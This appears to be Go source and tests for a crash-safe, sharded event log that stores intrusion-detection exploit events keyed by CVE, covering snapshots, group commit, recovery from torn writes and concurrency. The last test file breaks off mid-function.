func (s *Store) Snapshot() *Snapshot {
	if sn := s.snap.Load(); sn != nil && sn.gen == s.gen.Load() {
		return sn
	}
	s.snapMu.Lock()
	defer s.snapMu.Unlock()
	for {
		gen := s.gen.Load()
		if sn := s.snap.Load(); sn != nil && sn.gen == gen {
			return sn
		}
		parts := make([][]ids.Event, len(s.shards))
		total := 0
		for i, sh := range s.shards {
			parts[i] = *sh.events.Load()
			total += len(parts[i])
		}
		amends := *s.amends.Load()
		if s.gen.Load() != gen {
			continue // an append raced the reads; retry for a stable view
		}
		merged := make([]ids.Event, 0, total)
		for _, p := range parts {
			merged = append(merged, p...)
		}
		SortEvents(merged)
		// Re-attribution: resolved amendments overlay the raw log, so every
		// snapshot consumer sees post-rescan labels without the shard files
		// ever rewriting. With no amendments this is a no-op passthrough.
		merged = applyAmendments(merged, amends)
		sn := &Snapshot{gen: gen, events: merged}
		s.snap.Store(sn)
		return sn
	}
}

// Snapshot is an immutable, time-ordered view of the store at one
// generation.
type Snapshot struct {
	gen    uint64
	events []ids.Event

	once  sync.Once
	byCVE map[string][]ids.Event
}

// Generation identifies the store state this snapshot reflects.
func (sn *Snapshot) Generation() uint64 { return sn.gen }

// Len returns the number of events in the snapshot.
func (sn *Snapshot) Len() int { return len(sn.events) }

// Events returns the full time-ordered event slice. Callers must treat it
// as read-only; it is shared by every user of the snapshot.
func (sn *Snapshot) Events() []ids.Event { return sn.events }

// CVE returns the events attributed to one CVE (in "YYYY-NNNN" form), in
// time order. The per-CVE index is built lazily on first use.
func (sn *Snapshot) CVE(cve string) []ids.Event {
	sn.index()
	return sn.byCVE[cve]
}

// CVEs returns the attributed CVE identifiers present, sorted.
func (sn *Snapshot) CVEs() []string {
	sn.index()
	out := make([]string, 0, len(sn.byCVE))
	for cve := range sn.byCVE {
		out = append(out, cve)
	}
	sort.Strings(out)
	return out
}

func (sn *Snapshot) index() {
	sn.once.Do(func() {
		sn.byCVE = make(map[string][]ids.Event)
		for i := range sn.events {
			if cve := sn.events[i].CVE; cve != "" {
				sn.byCVE[cve] = append(sn.byCVE[cve], sn.events[i])
			}
		}
	})
}
