// Package eventstore is the daemon's incremental event log: a sharded,
// append-only binary store of IDS exploit events (ids.Event) that survives
// crashes and serves consistent point-in-time snapshots while appends
// continue.
//
// Design:
//
//   - Events are routed to a shard by their CVE (falling back to SID), so
//     one CVE's history lives in one shard file and per-CVE queries touch a
//     single log.
//   - Each shard file is length-prefixed, CRC-checked records behind a
//     magic header. Opening a store replays every shard and truncates
//     trailing garbage — a torn append costs the torn record, nothing else.
//   - Readers never block writers and vice versa: each shard publishes its
//     event slice through an atomic pointer, and appends extend the slice
//     before republishing, so a reader's view is an immutable prefix.
//   - Every append bumps a store-wide generation. Snapshot() materializes
//     (and caches, keyed by generation) a merged, time-ordered view —
//     downstream analyses and the HTTP layer key their own caches off the
//     same generation, so nothing is recomputed until new data lands.
package eventstore

import (
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/ids"
)

// Options tunes a store.
type Options struct {
	// Shards is the number of shard files. Zero means 4. The count is
	// sticky: it is recorded on first open and reused (a mismatch is an
	// error, since routing depends on it).
	Shards int
	// SyncEvery forces an fsync after every n appended batches. Zero
	// disables periodic syncs (Close still syncs); crash-safety then means
	// "no corruption", not "no loss of the last moments".
	SyncEvery int
}

func (o Options) withDefaults() Options {
	if o.Shards == 0 {
		o.Shards = 4
	}
	return o
}

// Store is an on-disk event log open for appending and querying.
type Store struct {
	dir    string
	opts   Options
	shards []*shard
	gen    atomic.Uint64

	appended atomic.Uint64 // batches since last sync

	snapMu sync.Mutex
	snap   atomic.Pointer[Snapshot]

	closeMu sync.Mutex
	closed  bool
}

type shard struct {
	mu         sync.Mutex
	f          *os.File
	size       int64
	events     atomic.Pointer[[]ids.Event]
	lastAppend atomic.Int64 // UnixNano of the most recent append; 0 = none since open
}

// Open opens (creating if needed) the store in dir and recovers every
// shard, truncating any torn tail left by a crash.
func Open(dir string, opts Options) (*Store, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	if err := checkShardCount(dir, &opts); err != nil {
		return nil, err
	}
	s := &Store{dir: dir, opts: opts}
	for i := 0; i < opts.Shards; i++ {
		sh, n, err := openShard(filepath.Join(dir, shardName(i)))
		if err != nil {
			for _, prev := range s.shards {
				prev.f.Close()
			}
			return nil, err
		}
		s.shards = append(s.shards, sh)
		if n > 0 {
			s.gen.Add(1) // recovered data is generation 1+
		}
	}
	return s, nil
}

func shardName(i int) string { return fmt.Sprintf("events-%02d.log", i) }

// checkShardCount pins the shard count in a marker file so reopening with a
// different Options.Shards (which would misroute CVEs) fails loudly.
func checkShardCount(dir string, opts *Options) error {
	marker := filepath.Join(dir, "SHARDS")
	b, err := os.ReadFile(marker)
	if os.IsNotExist(err) {
		return os.WriteFile(marker, []byte(strconv.Itoa(opts.Shards)+"\n"), 0o644)
	}
	if err != nil {
		return err
	}
	n, convErr := strconv.Atoi(string(trimNL(b)))
	if convErr != nil || n <= 0 {
		return fmt.Errorf("eventstore: corrupt shard marker %q in %s", b, dir)
	}
	if n != opts.Shards {
		return fmt.Errorf("eventstore: store %s has %d shards, opened with %d", dir, n, opts.Shards)
	}
	return nil
}

func trimNL(b []byte) []byte {
	for len(b) > 0 && (b[len(b)-1] == '\n' || b[len(b)-1] == '\r') {
		b = b[:len(b)-1]
	}
	return b
}

// openShard reads one shard file, truncates trailing garbage, and leaves
// the handle positioned for appends. It returns the recovered event count.
func openShard(path string) (*shard, int, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, 0, err
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, 0, err
	}
	var events []ids.Event
	var size int64
	switch {
	case len(raw) == 0:
		if _, err := f.Write(fileMagic[:]); err != nil {
			f.Close()
			return nil, 0, err
		}
		size = int64(len(fileMagic))
	case len(raw) < len(fileMagic) || [8]byte(raw[:8]) != fileMagic:
		f.Close()
		return nil, 0, fmt.Errorf("eventstore: %s is not an event log", path)
	default:
		good, _, err := scanFrames(raw[len(fileMagic):], func(payload []byte) error {
			ev, err := decodeEvent(payload)
			if err != nil {
				return err
			}
			events = append(events, ev)
			return nil
		})
		if err != nil {
			f.Close()
			return nil, 0, fmt.Errorf("eventstore: %s: %w", path, err)
		}
		size = int64(len(fileMagic) + good)
		if size < int64(len(raw)) {
			// Torn tail from a crash: drop it.
			if err := f.Truncate(size); err != nil {
				f.Close()
				return nil, 0, err
			}
		}
	}
	if _, err := f.Seek(size, 0); err != nil {
		f.Close()
		return nil, 0, err
	}
	sh := &shard{f: f, size: size}
	sh.events.Store(&events)
	return sh, len(events), nil
}

// shardFor routes an event: by CVE when attributed, by SID otherwise.
func (s *Store) shardFor(ev *ids.Event) int {
	h := fnv.New32a()
	if ev.CVE != "" {
		h.Write([]byte(ev.CVE))
	} else {
		var b [8]byte
		for i := 0; i < 8; i++ {
			b[i] = byte(uint64(ev.SID) >> (8 * i))
		}
		h.Write(b[:])
	}
	return int(h.Sum32() % uint32(len(s.shards)))
}

// Append appends one event. See AppendBatch.
func (s *Store) Append(ev ids.Event) error { return s.AppendBatch([]ids.Event{ev}) }

// AppendBatch durably appends a batch of events (one generation bump for
// the whole batch). Events within the batch keep their order within each
// shard. Concurrent AppendBatch calls are safe; concurrent snapshots never
// block on them.
func (s *Store) AppendBatch(events []ids.Event) error {
	if len(events) == 0 {
		return nil
	}
	groups := make(map[int][]ids.Event)
	for i := range events {
		si := s.shardFor(&events[i])
		groups[si] = append(groups[si], events[i])
	}
	for si, group := range groups {
		if err := s.shards[si].append(group); err != nil {
			return err
		}
	}
	s.gen.Add(1)
	if n := s.opts.SyncEvery; n > 0 && s.appended.Add(1)%uint64(n) == 0 {
		if err := s.Sync(); err != nil {
			return err
		}
	}
	return nil
}

func (sh *shard) append(events []ids.Event) error {
	sh.mu.Lock()
	defer sh.mu.Unlock()
	var buf []byte
	var payload []byte
	for i := range events {
		payload = appendEvent(payload[:0], &events[i])
		buf = appendFrame(buf, payload)
	}
	if _, err := sh.f.Write(buf); err != nil {
		return fmt.Errorf("eventstore: appending: %w", err)
	}
	sh.size += int64(len(buf))
	// Publish to readers: extending the slice only ever writes past every
	// published length, so holders of older headers see a stable prefix.
	cur := *sh.events.Load()
	next := append(cur, events...)
	sh.events.Store(&next)
	sh.lastAppend.Store(time.Now().UnixNano())
	return nil
}

// Generation returns the current store generation. It changes exactly when
// new data lands, so it is a complete cache key for derived results.
func (s *Store) Generation() uint64 { return s.gen.Load() }

// Len returns the number of stored events.
func (s *Store) Len() int {
	n := 0
	for _, sh := range s.shards {
		n += len(*sh.events.Load())
	}
	return n
}

// SizeBytes returns the total on-disk size of the shard logs.
func (s *Store) SizeBytes() int64 {
	var n int64
	for _, sh := range s.shards {
		sh.mu.Lock()
		n += sh.size
		sh.mu.Unlock()
	}
	return n
}

// Dir returns the store directory.
func (s *Store) Dir() string { return s.dir }

// ShardStats is one shard file's share of the store: how many records it
// holds, its on-disk size, and when it last received an append (zero if
// nothing has landed since open — recovered data does not count).
type ShardStats struct {
	Shard      int
	Records    int
	SizeBytes  int64
	LastAppend time.Time
}

// ShardStats reports per-shard record counts, sizes, and last-append times,
// in shard order. It is the /metrics view of routing balance: a hot or stale
// shard shows up here long before the aggregate Len does.
func (s *Store) ShardStats() []ShardStats {
	out := make([]ShardStats, len(s.shards))
	for i, sh := range s.shards {
		out[i].Shard = i
		out[i].Records = len(*sh.events.Load())
		sh.mu.Lock()
		out[i].SizeBytes = sh.size
		sh.mu.Unlock()
		if ns := sh.lastAppend.Load(); ns != 0 {
			out[i].LastAppend = time.Unix(0, ns).UTC()
		}
	}
	return out
}

// LastAppend returns the time of the most recent append to any shard, or the
// zero time if nothing has been appended since open. Health checks compare it
// against a staleness window to spot a coordinator whose ingest has stalled.
func (s *Store) LastAppend() time.Time {
	var max int64
	for _, sh := range s.shards {
		if ns := sh.lastAppend.Load(); ns > max {
			max = ns
		}
	}
	if max == 0 {
		return time.Time{}
	}
	return time.Unix(0, max).UTC()
}

// Sync fsyncs every shard file.
func (s *Store) Sync() error {
	for _, sh := range s.shards {
		sh.mu.Lock()
		err := sh.f.Sync()
		sh.mu.Unlock()
		if err != nil {
			return err
		}
	}
	return nil
}

// Close syncs and closes the shard files. The store must not be used
// afterwards.
func (s *Store) Close() error {
	s.closeMu.Lock()
	defer s.closeMu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	var first error
	for _, sh := range s.shards {
		sh.mu.Lock()
		if err := sh.f.Sync(); err != nil && first == nil {
			first = err
		}
		if err := sh.f.Close(); err != nil && first == nil {
			first = err
		}
		sh.mu.Unlock()
	}
	return first
}

// Snapshot returns a consistent point-in-time view of the store. Snapshots
// are cheap when nothing changed (the previous one is reused) and immutable
// forever; appends after the call are invisible to it.
func (s *Store) Snapshot() *Snapshot {
	if sn := s.snap.Load(); sn != nil && sn.gen == s.gen.Load() {
		return sn
	}
	s.snapMu.Lock()
	defer s.snapMu.Unlock()
	for {
		gen := s.gen.Load()
		if sn := s.snap.Load(); sn != nil && sn.gen == gen {
			return sn
		}
		parts := make([][]ids.Event, len(s.shards))
		total := 0
		for i, sh := range s.shards {
			parts[i] = *sh.events.Load()
			total += len(parts[i])
		}
		if s.gen.Load() != gen {
			continue // an append raced the reads; retry for a stable view
		}
		merged := make([]ids.Event, 0, total)
		for _, p := range parts {
			merged = append(merged, p...)
		}
		sort.SliceStable(merged, func(i, j int) bool {
			a, b := &merged[i], &merged[j]
			if !a.Time.Equal(b.Time) {
				return a.Time.Before(b.Time)
			}
			if a.SID != b.SID {
				return a.SID < b.SID
			}
			if a.Src.Addr != b.Src.Addr {
				return a.Src.Addr.Less(b.Src.Addr)
			}
			return a.Src.Port < b.Src.Port
		})
		sn := &Snapshot{gen: gen, events: merged}
		s.snap.Store(sn)
		return sn
	}
}

// Snapshot is an immutable, time-ordered view of the store at one
// generation.
type Snapshot struct {
	gen    uint64
	events []ids.Event

	once  sync.Once
	byCVE map[string][]ids.Event
}

// Generation identifies the store state this snapshot reflects.
func (sn *Snapshot) Generation() uint64 { return sn.gen }

// Len returns the number of events in the snapshot.
func (sn *Snapshot) Len() int { return len(sn.events) }

// Events returns the full time-ordered event slice. Callers must treat it
// as read-only; it is shared by every user of the snapshot.
func (sn *Snapshot) Events() []ids.Event { return sn.events }

// CVE returns the events attributed to one CVE (in "YYYY-NNNN" form), in
// time order. The per-CVE index is built lazily on first use.
func (sn *Snapshot) CVE(cve string) []ids.Event {
	sn.index()
	return sn.byCVE[cve]
}

// CVEs returns the attributed CVE identifiers present, sorted.
func (sn *Snapshot) CVEs() []string {
	sn.index()
	out := make([]string, 0, len(sn.byCVE))
	for cve := range sn.byCVE {
		out = append(out, cve)
	}
	sort.Strings(out)
	return out
}

func (sn *Snapshot) index() {
	sn.once.Do(func() {
		sn.byCVE = make(map[string][]ids.Event)
		for i := range sn.events {
			if cve := sn.events[i].CVE; cve != "" {
				sn.byCVE[cve] = append(sn.byCVE[cve], sn.events[i])
			}
		}
	})
}
