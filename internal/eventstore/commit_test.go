package eventstore

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"repro/internal/fault"
	"repro/internal/ids"
)

// TestCommitBoundsRecovery is the group-commit crash contract: a second
// store opened over the same directory (the files as a crashed process left
// them) recovers exactly the committed cut — appends after the last commit
// are truncated away even though their frames are intact on disk.
func TestCommitBoundsRecovery(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 3})
	if err != nil {
		t.Fatal(err)
	}
	var first, second []ids.Event
	for i := 0; i < 30; i++ {
		first = append(first, testEvent(i))
		second = append(second, testEvent(100+i))
	}
	if err := st.AppendBatch(first); err != nil {
		t.Fatal(err)
	}
	meta := []byte("wm:sensor-a=7")
	if err := st.Commit(meta); err != nil {
		t.Fatal(err)
	}
	if err := st.AppendBatch(second); err != nil {
		t.Fatal(err)
	}
	// Crash: no Commit, no Close. The file writes are visible (the OS
	// survived), but nothing promised them durable.
	crashed, err := Open(dir, Options{Shards: 3})
	if err != nil {
		t.Fatal(err)
	}
	defer crashed.Close()
	if got := crashed.Len(); got != len(first) {
		t.Fatalf("recovered %d events, want only the committed %d", got, len(first))
	}
	if got := crashed.CommitMeta(); !bytes.Equal(got, meta) {
		t.Fatalf("recovered meta %q, want %q", got, meta)
	}
	// The truncated events were never half-kept: re-appending and committing
	// them lands the full set.
	if err := crashed.AppendBatch(second); err != nil {
		t.Fatal(err)
	}
	if err := crashed.Commit(nil); err != nil {
		t.Fatal(err)
	}
	if got := crashed.Len(); got != len(first)+len(second) {
		t.Fatalf("after redelivery: %d events, want %d", got, len(first)+len(second))
	}
	if got := crashed.CommitMeta(); !bytes.Equal(got, meta) {
		t.Fatalf("Commit(nil) clobbered meta: %q", got)
	}
}

// TestCommitMetaSurvivesSyncAndClose: Sync and Close are meta-preserving
// commits, and the meta round-trips through reopen.
func TestCommitMetaSurvivesSyncAndClose(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	meta := []byte{0x01, 0x00, 0xff, 'x'}
	if err := st.Commit(meta); err != nil {
		t.Fatal(err)
	}
	if err := st.Append(testEvent(1)); err != nil {
		t.Fatal(err)
	}
	if err := st.Sync(); err != nil {
		t.Fatal(err)
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	st2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st2.Close()
	if got := st2.CommitMeta(); !bytes.Equal(got, meta) {
		t.Fatalf("meta %q after reopen, want %q", got, meta)
	}
	if st2.Len() != 1 {
		t.Fatalf("%d events after reopen", st2.Len())
	}
}

// TestCrashBeforeFirstCommitDropsAppends: the recovery contract holds even
// when the crash lands before the first commit record ever did. A fresh
// store's journal is sealed at Open, so appended-but-uncommitted frames a
// crash leaves on disk (the page cache flushes on its own schedule) are
// truncated rather than adopted by the no-journal legacy fallback. Without
// the seal, recovery resurrected those frames with no commit meta covering
// them, and a redelivering sensor applied the batch twice.
func TestCrashBeforeFirstCommitDropsAppends(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 3})
	if err != nil {
		t.Fatal(err)
	}
	var batch []ids.Event
	for i := 0; i < 12; i++ {
		batch = append(batch, testEvent(i))
	}
	if err := st.AppendBatch(batch); err != nil {
		t.Fatal(err)
	}
	// Crash: no Commit, no Close. The appended frames are intact on disk but
	// nothing ever promised them durable.
	re, err := Open(dir, Options{Shards: 3})
	if err != nil {
		t.Fatal(err)
	}
	defer re.Close()
	if got := re.Len(); got != 0 {
		t.Fatalf("recovered %d uncommitted events, want 0", got)
	}
	// Redelivery lands the batch exactly once.
	if err := re.AppendBatch(batch); err != nil {
		t.Fatal(err)
	}
	if err := re.Commit(nil); err != nil {
		t.Fatal(err)
	}
	if got := re.Len(); got != len(batch) {
		t.Fatalf("after redelivery: %d events, want %d", got, len(batch))
	}
}

// TestLegacyStoreWithoutJournalAdoptsAll: a store written before group
// commit (no COMMITS.log) recovers every intact record, the old contract.
func TestLegacyStoreWithoutJournalAdoptsAll(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 2})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 20; i++ {
		if err := st.Append(testEvent(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, commitLogName)); err != nil {
		t.Fatal(err)
	}
	st2, err := Open(dir, Options{Shards: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer st2.Close()
	if st2.Len() != 20 {
		t.Fatalf("legacy recovery found %d events, want 20", st2.Len())
	}
}

// TestCommitSkipsCleanShards: a commit after appends that touched one shard
// fsyncs and re-journals, but a commit with nothing new is free (no new
// journal record), and synced watermarks only advance for dirty shards.
func TestCommitSkipsCleanShards(t *testing.T) {
	st, err := Open(t.TempDir(), Options{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if err := st.Commit([]byte("m")); err != nil {
		t.Fatal(err)
	}
	size0 := st.cj.size
	// All events share one CVE, so exactly one shard dirties.
	ev := testEvent(0)
	ev.CVE = "2021-44228"
	if err := st.AppendBatch([]ids.Event{ev, ev, ev}); err != nil {
		t.Fatal(err)
	}
	var dirtyBefore int
	for _, sh := range st.shards {
		sh.mu.Lock()
		if sh.size > sh.synced {
			dirtyBefore++
		}
		sh.mu.Unlock()
	}
	if dirtyBefore != 1 {
		t.Fatalf("%d dirty shards after a one-CVE batch, want 1", dirtyBefore)
	}
	if err := st.Sync(); err != nil {
		t.Fatal(err)
	}
	size1 := st.cj.size
	if size1 <= size0 {
		t.Fatal("dirty commit wrote no journal record")
	}
	for i, sh := range st.shards {
		sh.mu.Lock()
		if sh.size != sh.synced {
			t.Errorf("shard %d still dirty after commit", i)
		}
		sh.mu.Unlock()
	}
	// Idle commit: nothing dirty, same meta — must not grow the journal.
	if err := st.Sync(); err != nil {
		t.Fatal(err)
	}
	if st.cj.size != size1 {
		t.Fatal("idle Sync wrote a journal record")
	}
}

// TestConcurrentShardAppendsAndCommits is the race-detector test for the
// group-commit hot path: many goroutines appending batches routed across
// shards while a committer loop runs Commit and readers take snapshots.
func TestConcurrentShardAppendsAndCommits(t *testing.T) {
	st, err := Open(t.TempDir(), Options{Shards: 8})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	const writers, perWriter, per = 8, 40, 4
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				batch := make([]ids.Event, per)
				for j := range batch {
					batch[j] = testEvent(w*10000 + i*per + j)
				}
				if err := st.AppendBatch(batch); err != nil {
					t.Error(err)
					return
				}
			}
		}(w)
	}
	stop := make(chan struct{})
	var aux sync.WaitGroup
	aux.Add(2)
	go func() {
		defer aux.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if err := st.Commit([]byte("race")); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	go func() {
		defer aux.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			_ = st.Snapshot().Len()
		}
	}()
	wg.Wait()
	close(stop)
	aux.Wait()
	if err := st.Commit(nil); err != nil {
		t.Fatal(err)
	}
	if got := st.Len(); got != writers*perWriter*per {
		t.Fatalf("%d events, want %d", got, writers*perWriter*per)
	}
}

// TestCommitJournalCompactAbortLeaksNothing drives journal compaction into
// each failure branch (tmp write, reopen, fsync, rename) and asserts every
// abort leaves no stranded COMMITS.log.tmp and no leaked handle, and that
// the journal still accepts commits afterwards.
func TestCommitJournalCompactAbortLeaksNothing(t *testing.T) {
	fs := fault.NewSimFS(1, fault.Profile{})
	st, err := Open("store", Options{Shards: 2, FS: fs})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if err := st.Append(testEvent(1)); err != nil {
		t.Fatal(err)
	}
	if err := st.Commit([]byte("meta")); err != nil {
		t.Fatal(err)
	}
	baseline := fs.OpenHandles()
	for _, op := range []string{"writefile", "open", "sync", "rename"} {
		fs.FailWith(func(o, name string) error {
			if o == op && strings.HasSuffix(name, ".tmp") {
				return fault.ErrInjected
			}
			return nil
		})
		if err := st.cj.compact(); !errors.Is(err, fault.ErrInjected) {
			t.Fatalf("compact with %s fault: err=%v, want injected", op, err)
		}
		for _, name := range fs.Files() {
			if strings.HasSuffix(name, ".tmp") {
				t.Fatalf("compact aborted at %s stranded %s", op, name)
			}
		}
		if got := fs.OpenHandles(); got != baseline {
			t.Fatalf("compact aborted at %s leaked handles: %d, want %d", op, got, baseline)
		}
	}
	fs.FailWith(nil)
	if err := st.cj.compact(); err != nil {
		t.Fatalf("compact after faults cleared: %v", err)
	}
	if err := st.Append(testEvent(2)); err != nil {
		t.Fatal(err)
	}
	if err := st.Commit([]byte("meta2")); err != nil {
		t.Fatalf("commit after compaction: %v", err)
	}
}
