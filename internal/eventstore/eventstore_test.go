package eventstore

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"repro/internal/ids"
	"repro/internal/packet"
)

func testEvent(i int) ids.Event {
	ev := ids.Event{
		Time:      time.Date(2021, 11, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second),
		Src:       packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("203.0.113.%d", 1+i%250)), Port: uint16(40000 + i%1000)},
		Dst:       packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 443},
		SID:       58722 + i%7,
		Published: time.Date(2021, 12, 10, 12, 0, 0, 123456789, time.UTC),
		Msg:       "SERVER-OTHER Apache Log4j logging remote code execution attempt",
		Bytes:     512 + i,
	}
	if i%5 != 4 { // every fifth event is CVE-less (rule without reference)
		ev.CVE = fmt.Sprintf("2021-%d", 44220+i%9)
	}
	return ev
}

func eventsEqual(a, b ids.Event) bool {
	return a.Time.Equal(b.Time) && a.Src == b.Src && a.Dst == b.Dst &&
		a.SID == b.SID && a.Published.Equal(b.Published) &&
		a.CVE == b.CVE && a.Msg == b.Msg && a.Bytes == b.Bytes
}

func TestCodecRoundTrip(t *testing.T) {
	cases := []ids.Event{
		testEvent(0),
		{}, // zero event: zero times and invalid addrs must survive
		{
			Time:      time.Unix(0, 1).UTC(),
			Src:       packet.Endpoint{Addr: netip.MustParseAddr("2001:db8::1"), Port: 65535},
			Dst:       packet.Endpoint{Addr: packet.MustAddr("0.0.0.0")},
			Published: time.Date(2090, 1, 1, 0, 0, 0, 0, time.UTC), // never-published sentinel
			CVE:       "2022-26134",
			Msg:       "msg with\nnewline and \x00 byte",
			Bytes:     1 << 20,
		},
	}
	for i, ev := range cases {
		payload := appendEvent(nil, &ev)
		got, err := decodeEvent(payload)
		if err != nil {
			t.Fatalf("case %d: %v", i, err)
		}
		if !eventsEqual(got, ev) {
			t.Fatalf("case %d round trip:\n got %+v\nwant %+v", i, got, ev)
		}
	}
}

func TestDecodeEventRejectsGarbage(t *testing.T) {
	payload := appendEvent(nil, &ids.Event{CVE: "2021-44228", Msg: "m"})
	for cut := 0; cut < len(payload); cut++ {
		if _, err := decodeEvent(payload[:cut]); err == nil {
			t.Fatalf("truncation at %d accepted", cut)
		}
	}
	if _, err := decodeEvent(append(payload, 0xff)); err == nil {
		t.Fatal("stray trailing byte accepted")
	}
}

func TestStoreAppendReopenQuery(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 3})
	if err != nil {
		t.Fatal(err)
	}
	const n = 100
	var want []ids.Event
	for i := 0; i < n; i++ {
		want = append(want, testEvent(i))
	}
	// Append in mixed batch sizes.
	if err := st.Append(want[0]); err != nil {
		t.Fatal(err)
	}
	if err := st.AppendBatch(want[1:60]); err != nil {
		t.Fatal(err)
	}
	if err := st.AppendBatch(want[60:]); err != nil {
		t.Fatal(err)
	}
	check := func(st *Store, stage string) {
		t.Helper()
		sn := st.Snapshot()
		if sn.Len() != n {
			t.Fatalf("%s: %d events, want %d", stage, sn.Len(), n)
		}
		got := sn.Events()
		for i := range got {
			// Events were generated in time order, so the merged snapshot
			// must come back in exactly generation order.
			if !eventsEqual(got[i], want[i]) {
				t.Fatalf("%s: event %d:\n got %+v\nwant %+v", stage, i, got[i], want[i])
			}
		}
		byCVE := sn.CVE("2021-44221")
		if len(byCVE) == 0 {
			t.Fatalf("%s: no events for known CVE", stage)
		}
		for _, ev := range byCVE {
			if ev.CVE != "2021-44221" {
				t.Fatalf("%s: CVE query returned %q", stage, ev.CVE)
			}
		}
		if cves := sn.CVEs(); len(cves) != 9 {
			t.Fatalf("%s: %d distinct CVEs, want 9", stage, len(cves))
		}
	}
	check(st, "before close")
	gen := st.Generation()
	if gen == 0 {
		t.Fatal("generation stayed zero after appends")
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}

	st2, err := Open(dir, Options{Shards: 3})
	if err != nil {
		t.Fatal(err)
	}
	defer st2.Close()
	check(st2, "after reopen")
	if st2.SizeBytes() == 0 || st2.Len() != n {
		t.Fatalf("reopened store: %d bytes, %d events", st2.SizeBytes(), st2.Len())
	}
}

func TestStoreShardCountPinned(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 2})
	if err != nil {
		t.Fatal(err)
	}
	st.Close()
	if _, err := Open(dir, Options{Shards: 5}); err == nil {
		t.Fatal("shard count mismatch accepted")
	}
}

// TestStoreCrashRecovery simulates torn appends: extra garbage, a partial
// frame, and a corrupted CRC at the tail of shard files. Open must recover
// every intact record and truncate the rest.
func TestStoreCrashRecovery(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 2})
	if err != nil {
		t.Fatal(err)
	}
	var want []ids.Event
	for i := 0; i < 40; i++ {
		want = append(want, testEvent(i))
	}
	if err := st.AppendBatch(want); err != nil {
		t.Fatal(err)
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}

	corrupt := func(name string, mutate func(b []byte) []byte) {
		t.Helper()
		path := filepath.Join(dir, name)
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, mutate(b), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Shard 0: torn mid-frame (crash during write).
	corrupt(shardName(0), func(b []byte) []byte { return b[:len(b)-13] })
	// Shard 1: garbage appended after the valid log.
	corrupt(shardName(1), func(b []byte) []byte { return append(b, 0xde, 0xad, 0xbe, 0xef) })

	st2, err := Open(dir, Options{Shards: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer st2.Close()
	sn := st2.Snapshot()
	// Shard 0 lost exactly its final record; shard 1 lost nothing.
	if sn.Len() != len(want)-1 {
		t.Fatalf("recovered %d events, want %d", sn.Len(), len(want)-1)
	}
	// Every recovered event is one we wrote, uncorrupted.
	valid := make(map[string]bool, len(want))
	for i := range want {
		valid[fmt.Sprintf("%v/%s/%d", want[i].Time, want[i].CVE, want[i].Bytes)] = true
	}
	for _, ev := range sn.Events() {
		if !valid[fmt.Sprintf("%v/%s/%d", ev.Time, ev.CVE, ev.Bytes)] {
			t.Fatalf("recovered event was never written: %+v", ev)
		}
	}
	// Appending after recovery works and reopens cleanly.
	if err := st2.Append(testEvent(1000)); err != nil {
		t.Fatal(err)
	}
	if got := st2.Snapshot().Len(); got != len(want) {
		t.Fatalf("after post-recovery append: %d events", got)
	}
}

// TestStoreConcurrentAppendSnapshot hammers appends from several goroutines
// while readers take snapshots — run under -race this is the lock-free
// reader guarantee.
func TestStoreConcurrentAppendSnapshot(t *testing.T) {
	st, err := Open(t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	const writers, perWriter = 4, 50
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				batch := []ids.Event{testEvent(w*1000 + i), testEvent(w*1000 + i + 500)}
				if err := st.AppendBatch(batch); err != nil {
					t.Error(err)
					return
				}
			}
		}(w)
	}
	var readers sync.WaitGroup
	for r := 0; r < 3; r++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			var lastGen uint64
			var lastLen int
			for {
				select {
				case <-stop:
					return
				default:
				}
				sn := st.Snapshot()
				if sn.Generation() < lastGen {
					t.Error("generation went backwards")
					return
				}
				if sn.Generation() == lastGen && sn.Len() != lastLen {
